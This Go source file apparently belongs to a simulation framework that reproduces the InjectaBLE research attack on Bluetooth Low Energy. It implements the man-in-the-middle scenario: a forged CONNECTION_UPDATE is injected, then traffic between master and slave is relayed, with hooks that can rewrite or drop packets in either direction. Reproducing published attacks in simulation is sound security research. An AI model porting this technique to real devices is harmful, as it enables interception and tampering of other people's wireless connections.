package injectable

import (
	"fmt"

	"injectable/internal/ble"
	"injectable/internal/ble/crc"
	"injectable/internal/ble/csa"
	"injectable/internal/ble/pdu"
	"injectable/internal/link"
	"injectable/internal/medium"
	"injectable/internal/phy"
	"injectable/internal/sim"
)

// legSeq is the SN/NESN engine of one MITM leg — the same acknowledgement
// algorithm as a full Link Layer, reduced to its state (paper eq. 6
// machinery).
type legSeq struct {
	sn, nesn bool
	queue    []pdu.DataPDU
	inFlight *pdu.DataPDU
}

// onRx folds a received header in; newData reports a fresh PDU to consume.
func (l *legSeq) onRx(h pdu.DataHeader) (newData bool) {
	if h.NESN != l.sn {
		l.sn = !l.sn
		l.inFlight = nil
	}
	if h.SN == l.nesn {
		l.nesn = !l.nesn
		newData = true
	}
	return newData
}

// next picks the PDU for the next transmission opportunity.
func (l *legSeq) next() pdu.DataPDU {
	var p pdu.DataPDU
	if l.inFlight != nil {
		p = *l.inFlight
	} else if len(l.queue) > 0 {
		p = l.queue[0]
		l.queue = l.queue[1:]
		if len(p.Payload) > 0 {
			cp := p
			l.inFlight = &cp
		}
	} else {
		p = pdu.Empty(false, false)
	}
	p.Header.SN = l.sn
	p.Header.NESN = l.nesn
	p.Header.MD = len(l.queue) > 0
	return p
}

// enqueue adds a PDU for transmission toward this leg's peer.
func (l *legSeq) enqueue(p pdu.DataPDU) { l.queue = append(l.queue, p) }

// MITMConfig tunes the man-in-the-middle engine.
type MITMConfig struct {
	// OnMasterToSlave intercepts PDUs flowing master→slave. Return the
	// (possibly mutated) PDU and false to drop it. Nil = forward as is.
	OnMasterToSlave func(p pdu.DataPDU) (pdu.DataPDU, bool)
	// OnSlaveToMaster intercepts the reverse direction.
	OnSlaveToMaster func(p pdu.DataPDU) (pdu.DataPDU, bool)
	// MaxMissedEvents tears the session down after this many consecutive
	// silent master-leg events (0 = 32).
	MaxMissedEvents int
}

// MITM relays and rewrites traffic between the legitimate master (still on
// the old connection timing) and the legitimate slave (moved onto the
// forged schedule) — paper §VI-D, Fig. 7. One radio serves both legs: the
// forged WinOffset staggers the two event schedules so the exchanges never
// overlap, exactly as the paper's single nRF52840 dongle does it.
type MITM struct {
	stack *link.Stack
	cfg   MITMConfig

	params   link.ConnParams // shared AA/CRCInit/map/hop; timing = old
	delta    sim.Duration    // slave-leg anchor offset from master-leg
	selector csa.Selector

	legM legSeq // we act as slave toward the master
	legS legSeq // we act as master toward the slave

	event   uint16
	anchorM sim.Time
	missedM int
	missedS int
	closed  bool
	epoch   uint64

	// Forwarded counts relayed PDUs per direction.
	ForwardedM2S, ForwardedS2M int

	// Report is the injection report of the forged CONNECTION_UPDATE that
	// established the session.
	Report Report

	// OnClosed fires once when the session ends.
	OnClosed func(reason string)
	// OnForward observes every relayed PDU (after mutation).
	OnForward func(fromMaster bool, p pdu.DataPDU)
}

// newMITM builds the engine; use Attacker.ManInTheMiddle.
func newMITM(stack *link.Stack, st *ConnState, forged pdu.ConnectionUpdateInd, cfg MITMConfig) (*MITM, error) {
	if cfg.MaxMissedEvents == 0 {
		cfg.MaxMissedEvents = 32
	}
	if forged.Interval != st.Params.Interval {
		return nil, fmt.Errorf("injectable: MITM requires the forged interval to equal the old one")
	}
	sel, err := newSelector(st.Params)
	if err != nil {
		return nil, err
	}
	m := &MITM{
		stack:    stack,
		cfg:      cfg,
		params:   st.Params,
		delta:    ble.ConnUnit + sim.Duration(forged.WinOffset)*ble.ConnUnit,
		selector: sel,
		event:    forged.Instant,
		anchorM:  st.LastAnchor.Add(sim.Duration(st.MissedEvents) * st.IntervalDuration()),
	}
	// Leg seeds: toward the master we continue the slave's counters;
	// toward the slave we continue the master's (both sniffed).
	m.legM.sn, m.legM.nesn = st.SlaveSN, st.SlaveNESN
	m.legS.sn, m.legS.nesn = st.SlaveNESN, !st.SlaveSN
	return m, nil
}

// start arms both legs for the instant event.
func (m *MITM) start() {
	m.scheduleMasterLeg()
}

// Closed reports whether the session ended.
func (m *MITM) Closed() bool { return m.closed }

// close tears the session down once.
func (m *MITM) close(reason string) {
	if m.closed {
		return
	}
	m.closed = true
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.OnTxDone = nil
	m.stack.Radio.StopListening()
	sim.Emit(m.stack.Tracer, m.stack.Sched.Now(), m.stack.Name, "mitm-closed", func() []sim.Field {
		return []sim.Field{sim.F("reason", reason)}
	})
	if m.OnClosed != nil {
		m.OnClosed(reason)
	}
}

// interval returns the shared connection interval.
func (m *MITM) interval() sim.Duration { return m.params.IntervalDuration() }

// widening is the master-leg receive window half-width.
func (m *MITM) widening() sim.Duration {
	span := sim.Duration(m.missedM+1) * m.interval()
	return link.WindowWidening(m.params.MasterSCA.WorstPPM(), m.stack.Clock.RatedPPM(), span) +
		10*sim.Microsecond
}

// --- master leg (we are the slave) ----------------------------------------

func (m *MITM) scheduleMasterLeg() {
	if m.closed {
		return
	}
	span := sim.Duration(m.missedM+1) * m.interval()
	w := m.widening()
	m.epoch++
	epoch := m.epoch
	ev := m.stack.Clock.AtLocalOffset(m.anchorM, span-w, m.stack.Name+":mitm-mleg-open", func() {
		m.masterLegOpen(epoch, 2*w)
	})
	_ = ev
}

func (m *MITM) masterLegOpen(epoch uint64, width sim.Duration) {
	if m.closed || m.epoch != epoch {
		return
	}
	ch := m.selector.ChannelFor(m.event)
	m.stack.Radio.SetChannel(phy.Channel(ch))
	m.stack.Radio.SetAccessAddress(uint32(m.params.AccessAddress))
	m.stack.Radio.OnFrame = m.masterLegFrame
	m.stack.Radio.StartListening()
	m.stack.Sched.After(width, m.stack.Name+":mitm-mleg-close", func() {
		m.masterLegClose(epoch)
	})
}

func (m *MITM) masterLegClose(epoch uint64) {
	if m.closed || m.epoch != epoch {
		return
	}
	if m.stack.Radio.Locked() || m.stack.Radio.Acquiring() {
		m.stack.Sched.After(50*sim.Microsecond, m.stack.Name+":mitm-mleg-close", func() {
			m.masterLegClose(epoch)
		})
		return
	}
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.StopListening()
	m.missedM++
	if m.missedM >= m.cfg.MaxMissedEvents {
		m.close("master vanished")
		return
	}
	m.runSlaveLeg()
}

// masterLegFrame handles the legitimate master's packet.
func (m *MITM) masterLegFrame(rx medium.Received) {
	if m.closed {
		return
	}
	m.epoch++
	m.anchorM = rx.StartAt
	m.missedM = 0

	terminate := false
	if crc.Check(m.params.CRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		if p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU); err == nil {
			if m.legM.onRx(p.Header) && len(p.Payload) > 0 {
				terminate = m.relay(true, p)
			}
		}
	}

	resp := m.legM.next()
	frame := m.frame(resp)
	m.stack.Clock.AtLocalOffset(rx.EndAt, ble.TIFS, m.stack.Name+":mitm-mleg-rsp", func() {
		if m.closed {
			return
		}
		m.stack.Radio.OnTxDone = func() {
			m.stack.Radio.OnTxDone = nil
			if terminate {
				m.close("master terminated the connection")
				return
			}
			m.runSlaveLeg()
		}
		m.stack.Radio.OnFrame = nil
		m.stack.Radio.Transmit(frame)
	})
}

// --- slave leg (we are the master) -----------------------------------------

// runSlaveLeg transmits toward the slave delta after the master-leg
// anchor of the current event.
func (m *MITM) runSlaveLeg() {
	if m.closed {
		return
	}
	base := m.anchorM.Add(sim.Duration(m.missedM) * m.interval())
	m.epoch++
	epoch := m.epoch
	m.stack.Clock.AtLocalOffset(base, m.delta, m.stack.Name+":mitm-sleg-anchor", func() {
		m.slaveLegAnchor(epoch)
	})
}

func (m *MITM) slaveLegAnchor(epoch uint64) {
	if m.closed || m.epoch != epoch {
		return
	}
	ch := m.selector.ChannelFor(m.event)
	m.stack.Radio.SetChannel(phy.Channel(ch))
	m.stack.Radio.SetAccessAddress(uint32(m.params.AccessAddress))
	frame := m.frame(m.legS.next())
	m.stack.Radio.OnTxDone = func() {
		m.stack.Radio.OnTxDone = nil
		if m.closed {
			return
		}
		m.stack.Radio.OnFrame = m.slaveLegFrame
		m.stack.Radio.StartListening()
		deadline := ble.TIFS + phy.LE1M.PreambleAATime() + 60*sim.Microsecond
		m.stack.Sched.After(deadline, m.stack.Name+":mitm-sleg-timeout", func() {
			m.slaveLegTimeout(epoch)
		})
	}
	m.stack.Radio.Transmit(frame)
}

func (m *MITM) slaveLegTimeout(epoch uint64) {
	if m.closed || m.epoch != epoch {
		return
	}
	if m.stack.Radio.Locked() || m.stack.Radio.Acquiring() {
		m.stack.Sched.After(50*sim.Microsecond, m.stack.Name+":mitm-sleg-timeout", func() {
			m.slaveLegTimeout(epoch)
		})
		return
	}
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.StopListening()
	m.missedS++
	if m.missedS >= m.cfg.MaxMissedEvents {
		m.close("slave vanished")
		return
	}
	m.nextEvent()
}

// slaveLegFrame handles the legitimate slave's response.
func (m *MITM) slaveLegFrame(rx medium.Received) {
	if m.closed {
		return
	}
	m.epoch++
	m.missedS = 0
	if crc.Check(m.params.CRCInit, rx.Frame.PDU, rx.Frame.CRC) {
		if p, err := pdu.UnmarshalDataPDU(rx.Frame.PDU); err == nil {
			if m.legS.onRx(p.Header) && len(p.Payload) > 0 {
				if m.relay(false, p) {
					m.close("slave terminated the connection")
					return
				}
			}
		}
	}
	m.stack.Radio.OnFrame = nil
	m.stack.Radio.StopListening()
	m.nextEvent()
}

// nextEvent advances the shared event counter and re-arms the master leg.
func (m *MITM) nextEvent() {
	m.event++
	m.scheduleMasterLeg()
}

// relay pushes a new-data PDU through the mutation hook onto the opposite
// leg. It reports whether the PDU was a termination (which must be
// forwarded and then ends the session).
func (m *MITM) relay(fromMaster bool, p pdu.DataPDU) (terminated bool) {
	out := p
	forward := true
	if fromMaster && m.cfg.OnMasterToSlave != nil {
		out, forward = m.cfg.OnMasterToSlave(p)
	}
	if !fromMaster && m.cfg.OnSlaveToMaster != nil {
		out, forward = m.cfg.OnSlaveToMaster(p)
	}
	if !forward {
		return false
	}
	out.Header.MD = false
	if fromMaster {
		m.legS.enqueue(out)
		m.ForwardedM2S++
	} else {
		m.legM.enqueue(out)
		m.ForwardedS2M++
	}
	if m.OnForward != nil {
		m.OnForward(fromMaster, out)
	}
	if out.IsControl() && len(out.Payload) > 0 && pdu.Opcode(out.Payload[0]) == pdu.OpTerminateInd {
		return true
	}
	return false
}

// frame renders a data PDU onto the connection's AA/CRC.
func (m *MITM) frame(p pdu.DataPDU) medium.Frame {
	raw := p.Marshal()
	return medium.Frame{
		Mode:          phy.LE1M,
		AccessAddress: uint32(m.params.AccessAddress),
		PDU:           raw,
		CRC:           crc.Compute(m.params.CRCInit, raw),
	}
}

// ManInTheMiddle performs scenario D: a forged CONNECTION_UPDATE splits
// the slave onto a staggered schedule, then the attacker serves both sides
// and relays (and optionally rewrites) every PDU.
func (a *Attacker) ManInTheMiddle(upd UpdateParams, cfg MITMConfig, done func(*MITM, error)) error {
	st0 := a.Sniffer.State()
	if st0 == nil {
		return fmt.Errorf("injectable: not synchronised")
	}
	upd.applyDefaults(st0)
	upd.Interval = st0.Params.Interval // engine requires equal intervals

	var forged pdu.ConnectionUpdateInd
	build := func(st *ConnState) pdu.DataPDU {
		forged = pdu.ConnectionUpdateInd{
			WinSize:   upd.WinSize,
			WinOffset: upd.WinOffset,
			Interval:  upd.Interval,
			Latency:   0,
			Timeout:   st.Params.Timeout,
			Instant:   st.EventCount + upd.InstantLead,
		}
		return pdu.DataPDU{
			Header:  pdu.DataHeader{LLID: pdu.LLIDControl},
			Payload: pdu.MarshalControl(forged),
		}
	}
	return a.Injector.InjectDynamic(build, func(r Report) {
		if !r.Success {
			done(nil, fmt.Errorf("injectable: update injection failed after %d attempts", r.AttemptCount()))
			return
		}
		a.mitmAtInstant(forged, r, cfg, done)
	})
}

// mitmAtInstant follows until the instant, then starts the dual-leg relay.
func (a *Attacker) mitmAtInstant(forged pdu.ConnectionUpdateInd, r Report, cfg MITMConfig, done func(*MITM, error)) {
	st := a.Sniffer.State()
	proceed := func() {
		a.Sniffer.Stop()
		m, err := newMITM(a.Stack, st, forged, cfg)
		if err != nil {
			done(nil, err)
			return
		}
		m.Report = r
		a.MITM = m
		m.start()
		done(m, nil)
	}
	if st.EventCount == forged.Instant {
		proceed()
		return
	}
	prev := a.Sniffer.OnEventClosed
	a.Sniffer.OnEventClosed = func(s *ConnState) {
		if prev != nil {
			prev(s)
		}
		if s.EventCount == forged.Instant {
			a.Sniffer.OnEventClosed = prev
			proceed()
		}
	}
}
